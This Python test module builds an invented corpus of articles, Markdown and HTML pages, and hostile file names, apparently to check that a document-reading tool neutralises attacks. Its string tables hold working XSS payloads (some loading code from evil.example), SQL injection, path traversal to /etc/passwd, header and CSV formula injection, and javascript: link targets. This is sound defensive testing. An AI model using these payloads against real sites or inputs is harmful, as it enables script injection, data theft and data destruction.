"""An invented corpus of articles that attack whoever reads them: for each family of attacks a string, and each string
in every place of an article that a page shows.

Every attack that works leaves one of three traces: it calls `hit()` or `alert()`, it asks evil.example for something,
or it brings an element or attribute of its own ("data-hit") into the page.
"""

from collections.abc import Iterator
from html import escape
from pathlib import Path

from onrecord import flow
from onrecord.model import (
    Attribution,
    Block,
    Document,
    Hyperlink,
    Mention,
    Records,
    Sentence,
    Span,
    Stated,
    digest,
    document_id,
    sha256,
)
from onrecord.store import Case
from tests.store.pile import READ, TAGGER, attribution, refers

EVIL = "https://evil.example"

STRINGS = {
    "script": "<script data-hit>hit('script')</script>",
    "script from elsewhere": f'<script data-hit src="{EVIL}/x.js"></script>',
    "end of a script": "</script><script data-hit>hit('end')</script>",
    "end of a comment": "--><script data-hit>hit('comment')</script><!--",
    "end of a title": "</title></textarea></style></noscript><img data-hit src=x onerror=hit('title')>",
    "end of cdata": "]]><img data-hit src=x onerror=hit('cdata')>",
    "picture": f'<img data-hit src="{EVIL}/x.png" onerror="hit(\'picture\')">',
    "picture, double quotes": '"><img data-hit src=x onerror=hit("double")>',
    "picture, single quotes": "'><img data-hit src=x onerror=hit('single')>",
    "picture, no quotes": "x><img/data-hit/src=x/onerror=hit`none`>",
    "attribute, double quotes": '" onmouseover="hit(1)" autofocus onfocus="hit(2)" data-hit="',
    "attribute, single quotes": "' onmouseover='hit(1)' autofocus onfocus='hit(2)' data-hit='",
    "attribute, back quotes": "` onmouseover=hit(1) data-hit=`",
    "attribute, no quotes": "x onpointerenter=hit(1) data-hit",
    "svg": "<svg data-hit onload=hit('svg')><script>hit('svg')</script></svg>",
    "svg animation": "<svg data-hit><animate onbegin=hit('animate') attributeName=x dur=1s></svg>",
    "svg use": "<svg data-hit><use href=\"data:image/svg+xml,<svg id='x' onload='hit(1)'/>#x\"/></svg>",
    "mathml": '<math data-hit><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=hit(1)>">',
    "mutation": '<noscript data-hit><p title="</noscript><img src=x onerror=hit(1)>">',
    "foreign object": "<svg data-hit><foreignObject><iframe srcdoc='<script>parent.hit(1)</script>'>",
    "frame": f'<iframe data-hit src="{EVIL}"></iframe><iframe data-hit srcdoc="<script>top.hit(1)</script>"></iframe>',
    "object": f'<object data-hit data="{EVIL}"></object><embed data-hit src="{EVIL}">',
    "details": "<details data-hit open ontoggle=hit('details')>",
    "video": "<video data-hit><source onerror=hit('video')></video><audio data-hit src=x onerror=hit(2)>",
    "body": "<body data-hit onload=hit('body') onpageshow=hit('body')>",
    "marquee": "<marquee data-hit onstart=hit('marquee')>x</marquee>",
    "form": f'</form><form data-hit action="{EVIL}"><button data-hit formaction="javascript:hit(1)">Save</button>',
    "input": "<input data-hit autofocus onfocus=hit('input')>",
    "style": f"<style data-hit>*{{background:url({EVIL}/s)}}</style><link data-hit rel=stylesheet href={EVIL}/c.css>",
    "style attribute": f'" style="position:fixed;inset:0;background:url({EVIL}/p)" data-hit="',
    "style value": f"red;}} body{{background:url({EVIL}/v)}} @import '{EVIL}/i.css';",
    "refresh": f'<meta data-hit http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base data-hit href="{EVIL}/">',
    "prefetch": f'<link data-hit rel="prefetch dns-prefetch preconnect" href="{EVIL}">',
    "template braces": "{{7*7}}{{ ''.__class__.__mro__ }}{{ config }}{% for it in () %}{% endfor %}{# gone #}",
    "template dollars": "${7*7}#{7*7}<%= 7*7 %>${{7*7}}@(7*7)*{7*7}[[7*7]]",
    "format string": "%s%n%(title)s {0} {title} {0.__class__} $title",
    "escapes in javascript": "\\u003cimg data-hit src=x onerror=hit(1)\\u003e \\x3cscript\\x3ehit(2)\\x3c/script\\x3e",
    "escapes in html": "&lt;img data-hit src=x onerror=hit(1)&gt; &#60;script&#62;hit(2) &#x3c;b data-hit",
    "escapes in addresses": "%3Cscript%3Ehit(1)%3C/script%3E %22%3E%3Cimg%20data-hit%20src=x%20onerror=hit(2)%3E",
    "string of javascript": "';hit(1)//\";hit(2)//`;hit(3)//\\';hit(4)//--></script>",
    "line ends of javascript": "a\u2028hit(1)\u2029hit(2)//",
    "json": '"}]}</script><script data-hit>hit(1)</script>{"a":[{"b":"',
    "prototype": "__proto__ constructor.prototype toString hasOwnProperty",
    "entities without end": "&lt&gt&quot&#x41&#65&amp &NewLine;&Tab;&colon;",
    "wide signs": "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e \u02ba onload\u02bahit(2) \u2039img\u203a",
    "combining": "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f" * 6,
    "turning": "\u202emoc.live\u202c \u2066\u2067gnol\u2069 \u200f\u200e\u061c (left open: \u202e gnorw",
    "unseen": "Ann\u200b \u200c\u200d\ufeff\u00ad\u2060Cole \U000e0041\U000e0042",
    "control": "a\x01\x02\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85",
    "nul": "<scr\x00ipt data-hit>hit('nul')</scr\x00ipt>",
    "noncharacters": "\ufffe\uffff\U0001ffff \ufdd0 \ufffd",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈 é e\u0301 ﷽ 𒐫",
    "sql": "Robert'); DROP TABLE document;-- \" OR 1=1 -- ' UNION SELECT text FROM document--",
    "words of full text search": '"unclosed AND (NEAR(a b, 5) OR NOT * ^x title:y -z {a}: "" \' + ',
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f file:///etc/passwd",
    "header": f"x\r\nSet-Cookie: hit=1\r\nLocation: {EVIL}\r\n\r\n<script>hit(1)</script>",
    "csv": "=cmd|' /C calc'!A0 @SUM(1) +1 -1 \t=1",
    "markdown": f"[x](javascript:hit(1)) ![x]({EVIL}/m.png) <javascript:hit(2)> [x]: data:text/html,<b>hit(3)</b>",
}  # fmt: skip
"""A string for each family of attacks, by the family's name."""

TARGETS = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(2)",
    "java\tscript:hit(3)",
    "\x01javascript:hit(4)",
    " javascript:hit(5)",
    "javascript&colon;hit(6)",
    "vbscript:hit(7)",
    "data:text/html,<script>hit(8)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoOSk8L3NjcmlwdD4=",
    "view-source:javascript:hit(10)",
    "file:///etc/passwd",
    "//evil.example/no-scheme",
    "blob:https://evil.example/x",
    'https://evil.example/" onmouseover="hit(11)" data-hit="',
    "https://evil.example/'onmouseover='hit(12)'data-hit='",
    "https://evil.example/<script>hit(13)</script>",
    "https://good.example@evil.example/",
    '#x" onclick=hit(14) data-hit="',
    "/judge?token=stolen",
    "javascript://good.example/%0ahit(15)",
)
"""Where an attacker's links lead."""

LONG = "w" * 100_000
QUERIES = (*STRINGS.values(), *TARGETS, LONG[:4000], '"', "*", "", " ", "\x00", "a" * 300 + '"')


def files(folder: Path) -> Path:
    """The corpus as files: plain, Markdown and HTML, under file names that attack too."""
    folder.mkdir()
    for name, data in _written():
        (folder / name).write_bytes(data.encode("utf-8", "surrogatepass"))
    return folder


def build(folder: Path) -> Path:
    """A case of the corpus, read as any pile is, with an article whose findings quote every string exactly."""
    path = folder / "<b data-hit onclick=hit(1)>case &amp; 'more'.case"
    with Case.open(path, create=True) as case:
        flow.add(case, [files(folder / "<i data-hit>pile")])
        for number, article in enumerate(_exact()):
            case.keep(f"exact/{number}", *article, flow.SIGNATURE)
        flow.link(case)
    return path


def _written() -> Iterator[tuple[str, str]]:
    lines = [f"“{words}” said Ann {words} Cole. The {words} stood in Orvale." for words in STRINGS.values()]
    yield "<img data-hit src=x onerror=hit('file')>.txt", "\n\n".join(["A quiet week", *lines])
    yield (
        "'\"><svg data-hit onload=hit(2)>.txt",
        f"{STRINGS['picture']}\nBy {STRINGS['svg']}\n\n{LONG}\n\n“Yes,” said {LONG}.\n",
    )
    yield "{{7*7}} ${7*7} javascript:hit(3).md", _markdown()
    yield "page & <script data-hit>hit(4)<.html", _page(raw=False)
    yield 'page " onmouseover=hit(5) data-hit=".html', _page(raw=True)
    yield "turned \u202etxt.exe\u202c \u2066.txt", f"{STRINGS['turning']}\n\n“No,” said {STRINGS['turning']}.\n"
    yield "<b data-hit>empty.txt", ""
    for number, words in enumerate(list(STRINGS.values())[:6]):
        yield (
            f"title {number}.md",
            f"---\ntitle: {words!r}\nauthor: {words!r}\n---\n# {words}\n\nBy {words}\n\n“No,” said {words}.",
        )


def _markdown() -> str:
    links = [f"See [the {number} note](<{target}>) here." for number, target in enumerate(TARGETS)]
    pictures = [f'![{words}]({EVIL}/{number}.png "{words}")' for number, words in enumerate(STRINGS.values())]
    return "\n\n".join([f"# {STRINGS['picture']}", *links, *pictures, *STRINGS.values(), f"> {STRINGS['script']}"])


def _page(*, raw: bool) -> str:
    """A page with the strings in its head and body: as markup that runs (raw), or as words."""
    words = [each if raw else escape(each) for each in STRINGS.values()]
    quoted = escape(STRINGS["attribute, double quotes"] + STRINGS["picture"])
    links = "".join(f'<p>Read <a href="{escape(it)}">the note</a>, said Ann Cole.</p>' for it in TARGETS)
    body = "".join(f"<p>“{each}” said Ann Cole of the harbour.</p>" for each in words)
    return (
        f"<html><head><title>{escape(STRINGS['end of a title'])}</title>"
        f'<meta property="og:title" content="{quoted}"><meta property="og:site_name" content="{quoted}">'
        f'<meta name="author" content="{quoted}"><meta property="article:published_time" content="2031-04-16">'
        f'<link rel="canonical" href="{EVIL}/{int(raw)}&quot;&gt;&lt;script data-hit&gt;hit(6)&lt;/script&gt;">'
        f"</head><body><article><h1>{quoted}</h1>{links}{body}</article></body></html>"
    )


def _exact() -> Iterator[tuple[bytes, Document, Records]]:
    """Articles that no reader has cleaned: every field holds a string as it is, and speakers bear it as their name."""
    for number, words in enumerate(STRINGS.values()):
        yield _attack(f"{EVIL}/exact/{number}/{words}", words, TARGETS[number % len(TARGETS)])


def _attack(address: str, words: str, target: str) -> tuple[bytes, Document, Records]:
    text = f"{words}\n\n{words} said {words} The boats came home, {words}"
    raw, made = text.encode("utf-8", "surrogatepass"), document_id(address, text)
    start = len(words) + 2
    source, cue = Span(made, start, start + len(words)), Span(made, start + len(words) + 1, start + len(words) + 5)
    content = Span(made, cue.end + 1, cue.end + 1 + len(words))
    own = Span(made, content.end + 1, len(text))
    document = Document(
        id=made,
        address=address,
        text=text,
        raw_sha256=_hash(raw),
        captured="2031-01-01T00:00:00Z",
        by=READ,
        title=Stated(value=words, found_in="headline", span=Span(made, 0, len(words))),
        outlet=Stated(value=words, found_in="markup"),
        authors=(Stated(value=words, found_in="markup"),),
        published=Stated(value="2031-04", found_in="markup"),
        republished_from=(Stated(value=words, found_in="markup"),),
        language="en",
        links=(Hyperlink(span=content, url=target), Hyperlink(span=own, url=target)),
        blocks=(
            Block(kind="title", span=Span(made, 0, len(words))),
            Block(kind="paragraph", span=Span(made, start, len(text))),
        ),
    )
    return raw, document, _findings(attribution(source, cue, content), own, words)


def _findings(found: Attribution, own: Span, words: str) -> Records:
    source = found.source[0]
    mention = Mention(
        id=digest("mention", source.document, source.start),
        span=source,
        kind="person",
        value=words,
        named=True,
        by=TAGGER,
    )
    voices = ((found.extent, "attributed"), (own, "own"))
    sentences = tuple(Sentence(id=digest("s", it.document, it.start), span=it, voice=voice) for it, voice in voices)
    return Records(sentences=sentences, mentions=(mention,), attributions=(found,), links=(refers(found, mention),))


def _hash(raw: bytes) -> str:
    return sha256(raw.decode("utf-8", "surrogatepass"))
